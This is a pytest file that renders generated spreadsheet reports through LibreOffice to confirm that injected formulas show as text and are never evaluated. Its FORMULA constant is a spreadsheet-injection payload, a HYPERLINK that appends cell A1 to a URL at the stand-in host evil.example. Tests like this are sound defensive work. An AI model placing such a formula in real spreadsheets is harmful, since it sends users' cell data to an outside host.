"""Workbooks in a real office program: LibreOffice shows text where text was written, and computes nothing of ours."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import samples
from lxml import html
from test_report_annotate import copied, told, workbook

from screening.model import Outcome
from screening.report import writer
from screening.report.annotate import Answer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"press here")'
SUM = "=1+1"


@pytest.fixture
def office() -> str:
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("no LibreOffice here (Debian: apt-get install libreoffice-calc)")
    return program


def test_in_an_office_program_data_is_text_and_the_users_formulas_still_count(office: str, tmp_path: Path) -> None:
    report = tmp_path / "report.xlsx"
    samples.hostile(FORMULA).tell(writer("xlsx", report))
    answer = Answer(Outcome.STOP, 91.4, SUM, "us-csl", FORMULA, ("a-1",))
    copy, _ = copied(workbook(tmp_path / "vendors.xlsx"), {"Vendors": told((3, answer))})
    arguments = ["--headless", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--convert-to", "html"]
    command = [office, *arguments, "--outdir", str(tmp_path / "shown"), str(report), str(copy)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    shown = {name: html.parse(str(tmp_path / "shown" / f"{name}.html")).getroot() for name in ("report", "copy")}
    row = next(row for row in shown["copy"].iter("tr") if "Huawei" in row.text_content())

    assert [" ".join(cell.text_content().split()) for cell in row][1:] == [
        "seen Huawei", "CN", "10", "Stop", "91.4", SUM, "us-csl", FORMULA, "a-1",
    ]  # fmt: skip
    cells = [" ".join(cell.text_content().split()) for cell in shown["report"].iter("td")]
    assert cells.count(FORMULA) > 20
    assert not [cell for cell in cells if cell in ("press here", "#NAME?", "Err:508")]
    assert not shown["report"].xpath("//a[contains(@href, 'evil')]")
